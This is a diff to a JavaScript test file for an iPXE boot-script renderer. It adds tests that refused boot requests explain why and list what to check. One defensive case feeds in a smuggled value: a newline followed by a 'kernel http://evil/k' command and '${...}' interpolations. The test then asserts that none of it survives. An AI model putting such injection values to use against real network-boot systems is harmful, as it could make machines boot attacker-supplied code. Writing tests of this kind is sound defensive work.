@@ -8,6 +8,7 @@ import {
   renderDiscoveryScript,
   renderInstallScript,
   renderNoMacScript,
+  renderRefusedScript,
   renderScript,
   renderWaitScript,
 } from '../../agent/ipxe/render.js';
@@ -156,6 +157,28 @@ t.test('renderScript renders each planned script as its own renderer does; an in
   const installText = renderInstallScript({ node: node(), profile: profile(), baseUrl: BASE, token: TOKEN, platform: 'efi' });
   t.same(renderScript(install, BASE, TOKEN), text(installText));
   t.throws(() => renderScript(install, BASE, undefined), /without a boot token/);
+});
+
+t.test('refused script request: why and what to check, never a kernel or the address that would count', async (t) => {
+  const check =
+    'echo maskin: check that this machine took its address from this agent (DHCP on the provisioning network or its relay), or set its ipv4 in the manifest';
+  t.equal(
+    renderRefusedScript({ mac: '52-54-00-AB-CD-EF', reason: 'no-lease', from: '198.18.9.66' }),
+    '#!ipxe\necho maskin: refused: 52:54:00:ab:cd:ef holds no DHCP lease from this agent and has no fixed ipv4 in the manifest\n' +
+      `${check}\nsleep 10\nexit 1\n`,
+  );
+  t.equal(
+    renderRefusedScript({ mac: '52:54:00:ab:cd:ef', reason: 'wrong-address', from: '198.18.9.66' }),
+    '#!ipxe\necho maskin: refused: this request came from 198.18.9.66, ' +
+      'which is neither the address this agent leased to 52:54:00:ab:cd:ef nor its fixed ipv4\n' +
+      `${check}\nsleep 10\nexit 1\n`,
+  );
+  const hostile = renderRefusedScript({ mac: '${x}', reason: 'wrong-address', from: '1.2.3.4\nkernel http://evil/k ${y}' });
+  t.notMatch(hostile, /\nkernel|\$\{/, 'nothing interpolated can run');
+  t.same(renderScript({ kind: 'refused', mac: '52:54:00:ab:cd:ef', reason: 'no-lease', from: 'x' }, BASE, undefined), {
+    kind: 'script',
+    text: renderRefusedScript({ mac: '52:54:00:ab:cd:ef', reason: 'no-lease', from: 'x' }),
+  });
 });
 
 t.test('no valid mac in the script request: say so and hand back to the firmware', async (t) => {
